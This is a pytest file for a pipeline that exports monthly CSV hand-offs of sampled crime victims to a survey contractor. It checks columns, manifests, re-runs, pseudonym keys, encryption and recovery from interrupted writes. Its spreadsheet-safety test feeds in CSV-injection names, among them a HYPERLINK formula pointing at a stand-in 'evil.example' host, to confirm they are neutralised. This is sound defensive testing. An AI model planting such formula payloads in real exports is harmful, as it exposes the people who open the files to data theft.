"""The contractor hand-off: contract layout, manifest, determinism, sent months, CSV injection,
pseudonym keys, contact history and age encryption.

Most tests start from one generator build (April-May 2025 at SMALL_SCALE, one range run up
to `contractor_handoff`) made once per session and copied into each test's tmp_path; tests
about formula cells and keys use small export files instead (names are plainly fake).
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import re
import subprocess
import sys
from datetime import date, timedelta
from pathlib import Path

import polars as pl
import pytest

from vsat_assets.defs.handoff.assets import HandoffSettings
from vsat_assets.privacy import DEV_PSEUDONYM_KEY, pseudonym
from vsat_assets.resources import SurveySettings
from conftest import TO_HANDOFF

APRIL = "2025-04-01"
MAY = "2025-05-01"
APRIL_FILE = "handoff_2025-04.csv"
APRIL_MANIFEST = "handoff_2025-04.manifest.json"
# The contract (docs/inputs.md, The contractor hand-off), written out rather than imported from the code under test.
CONTRACT_COLUMNS = [
    "survey_id", "title", "forename", "surname", "phone_number",
    "survey_strand", "report_date", "contact_from", "contact_until",
]
RESAMPLE = ("sampling_frame", "sampled_cohort", "contractor_handoff")
PROJECT_ROOT = Path(__file__).resolve().parents[1]


# ----------------------------------------------------------------------------- helpers


def read_rows(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(newline="", encoding="utf-8") as f:
        reader = csv.DictReader(f)
        return list(reader.fieldnames or []), list(reader)


def step_failed_with(result, failure_messages, *fragments: str) -> bool:
    text = "\n".join(failure_messages(result))
    return all(fragment in text for fragment in fragments)


def snapshot(outbox: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(outbox.iterdir())}


def export_month(export_writer, month: date, forenames=None, surnames=None):
    frame = export_writer.frame(month, rows=len(forenames) if forenames else 6)
    if forenames:
        frame = frame.with_columns(pl.Series("victim_forename", forenames), pl.Series("victim_surname", surnames))
    export_writer.write(month, frame)
    return frame


def everyone_sampled(resources: dict) -> dict:
    return {**resources, "survey": SurveySettings(sample_rate=1.0, domestic_abuse_sample_rate=1.0)}


# ------------------------------------------------------------------- layout and content
def test_handoff_has_exactly_the_contract_columns_and_no_other_personal_data(
    generator_handoffs, tmp_path, warehouse_rows
):
    warehouse = generator_handoffs["warehouse"]
    path = tmp_path / "outbox" / APRIL_FILE
    text = path.read_text(encoding="utf-8")
    assert text.split("\n", 1)[0] == ",".join(CONTRACT_COLUMNS)
    header, rows = read_rows(path)
    assert header == CONTRACT_COLUMNS
    assert rows, "the April hand-off should not be empty"

    # No identifier the contractor must not get: any crime reference, person id or date of
    # birth of the month's reports (sampled or not), in any cell or anywhere in the bytes.
    raw = warehouse_rows(
        warehouse,
        "SELECT crime_reference, victim_person_id, victim_date_of_birth FROM raw.reports "
        "WHERE report_date >= DATE '2025-04-01' AND report_date < DATE '2025-05-01'",
    )
    assert raw
    for reference, person_id, born in raw:
        assert reference not in text
        assert person_id not in text
        if born is not None:
            assert born.isoformat() not in text
            assert born.strftime("%d/%m/%Y") not in text

    # Each cell is what the contract says it is.
    cohort = {
        r[0]: r[1:]
        for r in warehouse_rows(
            warehouse,
            "SELECT survey_id, report_date, contact_from, contact_until, handoff_date, phone_number "
            "FROM intermediate.sampled_cohort WHERE sampling_month = DATE '2025-04-01'",
        )
    }
    for row in rows:
        assert re.fullmatch(r"S[0-9a-f]{32}", row["survey_id"]), row["survey_id"]
        assert re.fullmatch(r"0[1237][0-9]{9}", row["phone_number"])
        report_date = date.fromisoformat(row["report_date"])
        assert date.fromisoformat(row["contact_from"]) == report_date + timedelta(days=56)
        assert date.fromisoformat(row["contact_until"]) == report_date + timedelta(days=84)
        assert row["survey_id"] in cohort
        assert date.fromisoformat(row["contact_until"]) > cohort[row["survey_id"]][3], "window already closed"
    open_ids = {sid for sid, (_, _, until, handoff, _) in cohort.items() if until > handoff}
    assert {r["survey_id"] for r in rows} == open_ids
    assert [r["survey_id"] for r in rows] == sorted(r["survey_id"] for r in rows)


def test_manifest_rows_and_checksum_match_the_file(generator_handoffs, tmp_path, warehouse_rows):
    outbox = tmp_path / "outbox"
    content = (outbox / APRIL_FILE).read_bytes()
    manifest = json.loads((outbox / APRIL_MANIFEST).read_text(encoding="utf-8"))
    data_lines = content.decode("utf-8").splitlines()[1:]
    assert manifest["file"] == APRIL_FILE
    assert manifest["month"] == "2025-04"
    assert manifest["rows"] == len(data_lines) > 0
    assert manifest["sha256"] == hashlib.sha256(content).hexdigest()
    assert manifest["columns"] == CONTRACT_COLUMNS
    assert "encrypted_file" not in manifest
    logged = warehouse_rows(
        generator_handoffs["warehouse"],
        "SELECT file, rows, sha256, sent_at IS NOT NULL FROM ops.handoff_log WHERE sampling_month = DATE '2025-04-01'",
    )
    assert logged == [(APRIL_FILE, manifest["rows"], manifest["sha256"], True)]  # sent on write (the default)


def test_contact_history_has_one_row_per_handed_off_person(generator_handoffs, tmp_path, warehouse_rows):
    _, rows = read_rows(tmp_path / "outbox" / APRIL_FILE)
    history = warehouse_rows(
        generator_handoffs["warehouse"],
        """SELECT h.survey_id, h.person_key = c.person_key, h.handed_off_on
           FROM ops.contact_history h JOIN intermediate.sampled_cohort c USING (survey_id)
           WHERE h.sampling_month = DATE '2025-04-01'""",
    )
    assert sorted(sid for sid, _, _ in history) == sorted(r["survey_id"] for r in rows)
    assert all(same_person and on == date(2025, 5, 1) for _, same_person, on in history)


# ------------------------------------------------------------------------ re-runs
@pytest.mark.slow
def test_rerunning_a_month_gives_byte_identical_files_and_no_duplicate_history(
    generator_handoffs, tmp_path, materialize_vsat, warehouse_rows
):
    warehouse = generator_handoffs["warehouse"]
    outbox = tmp_path / "outbox"
    before = snapshot(outbox)
    history_sql = "SELECT survey_id, sampling_month, handed_off_on FROM ops.contact_history"
    history_before = warehouse_rows(warehouse, history_sql)
    log_sql = "SELECT sampling_month, file, rows, sha256, sent_at FROM ops.handoff_log"
    log_before = warehouse_rows(warehouse, log_sql)

    result = materialize_vsat(generator_handoffs, partition=APRIL, selection=TO_HANDOFF)

    assert result.success
    assert snapshot(outbox) == before
    assert warehouse_rows(warehouse, history_sql) == history_before
    assert warehouse_rows(warehouse, log_sql) == log_before  # sent_at is kept from the first write
    dupes = warehouse_rows(warehouse, "SELECT survey_id FROM ops.contact_history GROUP BY ALL HAVING count(*) > 1")
    assert dupes == []


@pytest.mark.parametrize(
    "survey",
    [SurveySettings(), SurveySettings(sample_seed=1), SurveySettings(sample_rate=0.5)],
    ids=["same-settings", "another-seed", "another-rate"],
)
def test_rerunning_a_sent_month_keeps_it_as_sent_and_succeeds(
    generator_handoffs, tmp_path, materialize_vsat, failure_messages, warehouse_rows, run_log_text, survey
):
    """A sent month is settled: re-running it (as `make demo` run twice does, after its returns
    added opt-outs) keeps its sample, weights, contact history and hand-off, and says so."""
    warehouse = generator_handoffs["warehouse"]
    outbox = tmp_path / "outbox"
    # A sampled person of April opts out after April was sent (the demo's returns do this).
    with warehouse.get_connection() as conn:
        conn.execute("""INSERT INTO ops.opt_out_register (person_key, phone_key, opted_out_on, channel, source)
                        SELECT person_key, phone_key, DATE '2025-04-20', 'EMAIL', 'test'
                        FROM intermediate.sampled_cohort WHERE sampling_month = DATE '2025-04-01'
                        ORDER BY survey_id LIMIT 1""")
    before = snapshot(outbox)
    kept_sql = {
        "handoff_log": "SELECT * FROM ops.handoff_log",
        "contact_history": "SELECT * FROM ops.contact_history",
        "frame": "SELECT * FROM intermediate.sampling_frame WHERE report_month = DATE '2025-04-01'",
        "cohort": "SELECT * FROM intermediate.sampled_cohort WHERE sampling_month = DATE '2025-04-01'",
    }
    kept_before = {name: warehouse_rows(warehouse, sql) for name, sql in kept_sql.items()}

    result = materialize_vsat({**generator_handoffs, "survey": survey}, partition=APRIL, selection=TO_HANDOFF)

    assert result.success, failure_messages(result)
    assert {name: warehouse_rows(warehouse, sql) for name, sql in kept_sql.items()} == kept_before
    assert snapshot(outbox) == before
    assert "2025-04 is settled (sent " in run_log_text(result)
    assert "kept as sent" in run_log_text(result)
    kept_metadata = [e.materialization.metadata.get("settled_months_kept")
                     for e in result.get_asset_materialization_events()
                     if e.asset_key.to_user_string() in ("sampling_frame", "sampled_cohort")]
    assert kept_metadata and all(m is not None and "2025-04" in m.data for m in kept_metadata), kept_metadata


@pytest.mark.slow
def test_unsent_handoff_may_change_until_marked_sent_with_the_command(
    make_resources, tmp_path, materialize_vsat, failure_messages, warehouse_rows
):
    # The warehouse is <data>/vsat.duckdb so that the command finds it through VSAT_DATA_DIR.
    resources = make_resources("generator", warehouse="vsat.duckdb")
    resources["handoff"] = HandoffSettings(outbox=str(tmp_path / "outbox"), mark_sent_on_write=False)
    warehouse = resources["warehouse"]
    path = tmp_path / "outbox" / APRIL_FILE
    sent_sql = "SELECT sent_at IS NOT NULL FROM ops.handoff_log WHERE sampling_month = DATE '2025-04-01'"

    assert materialize_vsat(resources, partition=APRIL, selection=TO_HANDOFF).success
    first = path.read_bytes()
    assert warehouse_rows(warehouse, sent_sql) == [(False,)]

    changed = {**resources, "survey": SurveySettings(sample_seed=1)}
    assert materialize_vsat(changed, partition=APRIL, selection=RESAMPLE).success
    second = path.read_bytes()
    assert second != first, "an unsent hand-off is rewritten"
    manifest = json.loads((tmp_path / "outbox" / APRIL_MANIFEST).read_text())
    assert manifest["sha256"] == hashlib.sha256(second).hexdigest()
    assert warehouse_rows(warehouse, sent_sql) == [(False,)]

    env = {**os.environ, "VSAT_DATA_DIR": str(tmp_path)}
    command = [sys.executable, "-m", "vsat_assets.defs.handoff", "sent"]
    done = subprocess.run([*command, "2025-04"], cwd=PROJECT_ROOT, env=env, capture_output=True, text=True,
                          timeout=120)
    assert done.returncode == 0, done.stderr
    assert "2025-04 recorded as sent" in done.stdout
    assert warehouse_rows(warehouse, sent_sql) == [(True,)]
    not_written = subprocess.run([*command, "2024-01"], cwd=PROJECT_ROOT, env=env, capture_output=True,
                                 text=True, timeout=120)
    assert not_written.returncode == 1
    assert "no hand-off has been written for 2024-01" in not_written.stderr

    result = materialize_vsat(resources, partition=APRIL, selection=RESAMPLE)  # back to the first seed
    assert result.success, failure_messages(result)
    assert path.read_bytes() == second, "a sent month is settled: its file stays as sent"

    # Only the operator's re-open brings it back; it records who, when and why.
    reopen = [*command[:-1], "reopen", "2025-04"]
    refused = subprocess.run(reopen, cwd=PROJECT_ROOT, env=env, capture_output=True, text=True, timeout=120)
    assert refused.returncode != 0 and "--reason" in refused.stderr
    done = subprocess.run([*reopen, "--reason", "withdrawn with the contractor, ref W-1"], cwd=PROJECT_ROOT,
                          env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert "2025-04 re-opened" in done.stdout
    assert warehouse_rows(warehouse, sent_sql) == [(False,)]
    assert warehouse_rows(warehouse, "SELECT reason, reopened_by <> '' FROM ops.handoff_reopenings") == [
        ("withdrawn with the contractor, ref W-1", True)]
    assert materialize_vsat(resources, partition=APRIL, selection=RESAMPLE).success
    assert path.read_bytes() == first, "the re-opened month is drawn again with the first seed"


@pytest.mark.slow
def test_rewriting_an_unsent_handoff_leaves_only_its_people_in_contact_history(
    make_resources, tmp_path, materialize_vsat, warehouse_rows
):
    resources = make_resources("generator")
    resources["handoff"] = HandoffSettings(outbox=str(tmp_path / "outbox"), mark_sent_on_write=False)
    assert materialize_vsat(resources, partition=APRIL, selection=TO_HANDOFF).success
    changed = {**resources, "survey": SurveySettings(sample_seed=1)}
    assert materialize_vsat(changed, partition=APRIL, selection=RESAMPLE).success

    _, rows = read_rows(tmp_path / "outbox" / APRIL_FILE)
    history = warehouse_rows(resources["warehouse"], "SELECT survey_id FROM ops.contact_history")
    assert sorted(sid for (sid,) in history) == sorted(r["survey_id"] for r in rows)


# ----------------------------------------------------------------- spreadsheet safety
FORMULA_FORENAMES = ['=HYPERLINK("http://evil.example/?x=1","Click me")', "+SUM(A1:A9)", "-1", "@cmd"]
FORMULA_SURNAMES = ["=1+2", "+44", "-Example", "@SUM(1,2)"]


def test_formula_like_names_are_neutralised(export_resources, export_writer, tmp_path, materialize_vsat):
    export_month(export_writer, date(2025, 4, 1), FORMULA_FORENAMES, FORMULA_SURNAMES)

    result = materialize_vsat(everyone_sampled(export_resources), partition=APRIL, selection=TO_HANDOFF)

    assert result.success
    path = tmp_path / "outbox" / APRIL_FILE
    _, rows = read_rows(path)
    assert sorted(r["forename"] for r in rows) == sorted("'" + name for name in FORMULA_FORENAMES)
    assert sorted(r["surname"] for r in rows) == sorted("'" + name for name in FORMULA_SURNAMES)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    # And in the raw bytes too: no cell (quoted or not) opens with a formula character.
    for record in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
        assert not any(cell[:1] in ("=", "+", "-", "@") for cell in record)


# ------------------------------------------------------------------------ pseudonyms
KEY_ONE = "vsat-tests-key-one-0123456789abcdef0123456789abcdef"
KEY_TWO = "vsat-tests-key-two-fedcba9876543210fedcba9876543210"


def _expected_ids(frame: pl.DataFrame, key: str) -> set[str]:
    return {
        pseudonym(key.encode(), f"{force}/{person}", reference)
        for force, person, reference in frame.select("force_code", "victim_person_id", "crime_reference").iter_rows()
    }


@pytest.mark.slow
def test_survey_ids_are_keyed_pseudonyms_stable_for_a_key_and_different_for_another(
    make_resources, export_writer, tmp_path, materialize_vsat, monkeypatch
):
    frame = export_month(export_writer, date(2025, 4, 1))
    ids = {}
    for name, key in (("one", KEY_ONE), ("two", KEY_TWO)):
        monkeypatch.setenv("VSAT_PSEUDONYM_KEY", key)
        monkeypatch.setenv("VSAT_PROFILE", "production")  # a real key passes the production profile
        resources = everyone_sampled(make_resources("exports", warehouse=f"{name}.duckdb"))
        resources["handoff"] = HandoffSettings(outbox=str(tmp_path / f"outbox_{name}"))
        assert materialize_vsat(resources, partition=APRIL, selection=TO_HANDOFF).success
        _, rows = read_rows(tmp_path / f"outbox_{name}" / APRIL_FILE)
        ids[name] = {r["survey_id"] for r in rows}
        # Same key, same inputs -> the same ids, whenever and wherever they are computed.
        assert ids[name] == _expected_ids(frame, key)
    assert len(ids["one"]) == frame.height
    assert ids["one"].isdisjoint(ids["two"])
    assert ids["one"].isdisjoint(_expected_ids(frame, DEV_PSEUDONYM_KEY.decode()))


@pytest.mark.parametrize(
    "key, problem",
    [(None, "VSAT_PSEUDONYM_KEY is not set"), ("", "VSAT_PSEUDONYM_KEY is not set"),
     (DEV_PSEUDONYM_KEY.decode(), "VSAT_PSEUDONYM_KEY is the built-in demo key"),
     ("a", "VSAT_PSEUDONYM_KEY is 1 bytes long")],
    ids=["unset", "empty", "dev-key", "one-byte"],
)
def test_production_profile_without_a_real_key_fails_the_run(
    export_resources, export_writer, tmp_path, materialize_vsat, failure_messages, run_log_text, monkeypatch,
    key, problem,
):
    monkeypatch.setenv("VSAT_PROFILE", "production")
    if key is None:
        monkeypatch.delenv("VSAT_PSEUDONYM_KEY", raising=False)
    else:
        monkeypatch.setenv("VSAT_PSEUDONYM_KEY", key)
    export_month(export_writer, date(2025, 4, 1))

    result = materialize_vsat(export_resources, partition=APRIL, selection=TO_HANDOFF)

    assert not result.success
    assert step_failed_with(
        result, failure_messages, "PseudonymKeyError", problem, "secrets.token_hex(32)"
    ), failure_messages(result)
    assert not (tmp_path / "outbox" / APRIL_FILE).exists()
    assert DEV_PSEUDONYM_KEY.decode() not in run_log_text(result)


# ------------------------------------------------------------------------- encryption
def written_not_sent(resources: dict) -> None:
    """As with mark_sent_on_write off: the months are written for review, not yet sent (a sent
    month is settled and never written again)."""
    with resources["warehouse"].get_connection() as conn:
        conn.execute("UPDATE ops.handoff_log SET sent_at = NULL")


def test_with_an_age_recipient_only_the_encrypted_file_is_written(
    generator_handoffs, tmp_path, materialize_vsat
):
    pyrage = pytest.importorskip("pyrage")
    written_not_sent(generator_handoffs)
    identity = pyrage.x25519.Identity.generate()
    plain = (tmp_path / "outbox" / APRIL_FILE).read_bytes()
    outbox = tmp_path / "encrypted_outbox"
    resources = {**generator_handoffs,
                 "handoff": HandoffSettings(outbox=str(outbox), age_recipient=str(identity.to_public()))}

    result = materialize_vsat(resources, partition=APRIL, selection=["contractor_handoff"])

    assert result.success
    assert sorted(p.name for p in outbox.iterdir()) == [APRIL_FILE + ".age", APRIL_MANIFEST]
    encrypted = (outbox / (APRIL_FILE + ".age")).read_bytes()
    assert pyrage.decrypt(encrypted, [identity]) == plain
    _, rows = read_rows(tmp_path / "outbox" / APRIL_FILE)
    assert rows[0]["surname"].encode() not in encrypted
    manifest = json.loads((outbox / APRIL_MANIFEST).read_text())
    assert manifest["encrypted_file"] == APRIL_FILE + ".age"
    assert manifest["encrypted_sha256"] == hashlib.sha256(encrypted).hexdigest()
    assert manifest["sha256"] == hashlib.sha256(plain).hexdigest()
    assert manifest["rows"] == len(rows)


def test_switching_on_encryption_leaves_no_plain_handoff_in_the_outbox(
    generator_handoffs, tmp_path, materialize_vsat
):
    pyrage = pytest.importorskip("pyrage")
    written_not_sent(generator_handoffs)
    identity = pyrage.x25519.Identity.generate()
    outbox = tmp_path / "outbox"  # already holds April's plain hand-off
    resources = {**generator_handoffs,
                 "handoff": HandoffSettings(outbox=str(outbox), age_recipient=str(identity.to_public()))}

    assert materialize_vsat(resources, partition=APRIL, selection=["contractor_handoff"]).success

    assert (outbox / (APRIL_FILE + ".age")).exists()
    assert not (outbox / APRIL_FILE).exists()


# ------------------------------------------------------------------ interrupted writes
def _interrupted(tmp_path, old: bytes | None, new: bytes, landed: bool, sent: bool = False):
    """An outbox and log as a kill leaves them: the intent for `new` logged, `old` (with its
    manifest) in the outbox, and `new` renamed over it if `landed`."""
    import hashlib

    import duckdb

    from vsat_assets.defs.handoff.files import manifest_bytes, manifest_for
    from vsat_assets.defs.handoff.recovery import log_intent
    from vsat_assets.warehouse import ensure_schemas

    outbox = tmp_path / "outbox"
    outbox.mkdir()
    month = date(2025, 4, 1)
    conn = duckdb.connect()
    ensure_schemas(conn)
    sha = lambda b: hashlib.sha256(b).hexdigest()  # noqa: E731
    if old is not None:
        (outbox / APRIL_FILE).write_bytes(old)
        (outbox / "handoff_2025-04.manifest.json").write_bytes(manifest_bytes(manifest_for(month, 1, sha(old))))
        conn.execute("INSERT INTO ops.handoff_log (sampling_month, file, rows, sha256, layout_version, written_at, "
                     "sent_at, status, file_sha256) VALUES (?, ?, 1, ?, 1, now(), ?, 'WRITTEN', ?)",
                     [month, APRIL_FILE, sha(old), date(2025, 6, 1) if sent else None, sha(old)])
    log_intent(conn, month, 2, sha(new), APRIL_FILE, sha(new), 1,
               "SELECT 'P1', 'S1', DATE '2025-06-01' WHERE ? IS NOT NULL", [month])
    if landed:
        (outbox / APRIL_FILE).write_bytes(new)
    (outbox / ".handoff_2025-04.csv.x1y2.partial").write_bytes(new)
    return conn, outbox, month


@pytest.mark.parametrize("landed", [True, False], ids=["landed", "not-landed"])
def test_an_interrupted_rewrite_is_finished_if_its_file_landed_and_undone_if_not(tmp_path, landed):
    from vsat_assets.defs.handoff.recovery import recover_outbox

    old, new = b"survey_id\nS0\n", b"survey_id\nS1\nS2\n"
    conn, outbox, month = _interrupted(tmp_path, old, new, landed)

    done = recover_outbox(conn, outbox, mark_sent=True)

    on_disk = (outbox / APRIL_FILE).read_bytes()
    manifest = json.loads((outbox / "handoff_2025-04.manifest.json").read_text())
    log = conn.execute("SELECT status, rows, sha256, sent_at IS NOT NULL FROM ops.handoff_log").fetchall()
    assert on_disk == (new if landed else old)
    assert log == [("WRITTEN", manifest["rows"], manifest["sha256"], landed)]
    assert done["finished" if landed else "rolled_back"] == ["2025-04"]
    assert not list(outbox.glob(".*partial"))


def test_an_interrupted_first_write_that_never_landed_is_withdrawn(tmp_path):
    from vsat_assets.defs.handoff.recovery import recover_outbox

    conn, outbox, month = _interrupted(tmp_path, None, b"survey_id\nS1\n", landed=False)

    assert recover_outbox(conn, outbox, mark_sent=True)["withdrawn"] == ["2025-04"]
    assert conn.execute("SELECT count(*) FROM ops.handoff_log").fetchall() == [(0,)]
    assert conn.execute("SELECT count(*) FROM ops.contact_history").fetchall() == [(0,)]
    assert list(outbox.iterdir()) == []


def test_an_outbox_file_the_log_does_not_know_stops_for_the_operator(tmp_path):
    from vsat_assets.defs.handoff.recovery import HandoffNeedsOperator, recover_outbox

    conn, outbox, month = _interrupted(tmp_path, b"survey_id\nS0\n", b"survey_id\nS1\n", landed=False)
    (outbox / APRIL_FILE).write_bytes(b"survey_id\nedited by hand\n")
    before = (outbox / APRIL_FILE).read_bytes()

    with pytest.raises(HandoffNeedsOperator, match="check with the contractor"):
        recover_outbox(conn, outbox, mark_sent=True)
    assert (outbox / APRIL_FILE).read_bytes() == before
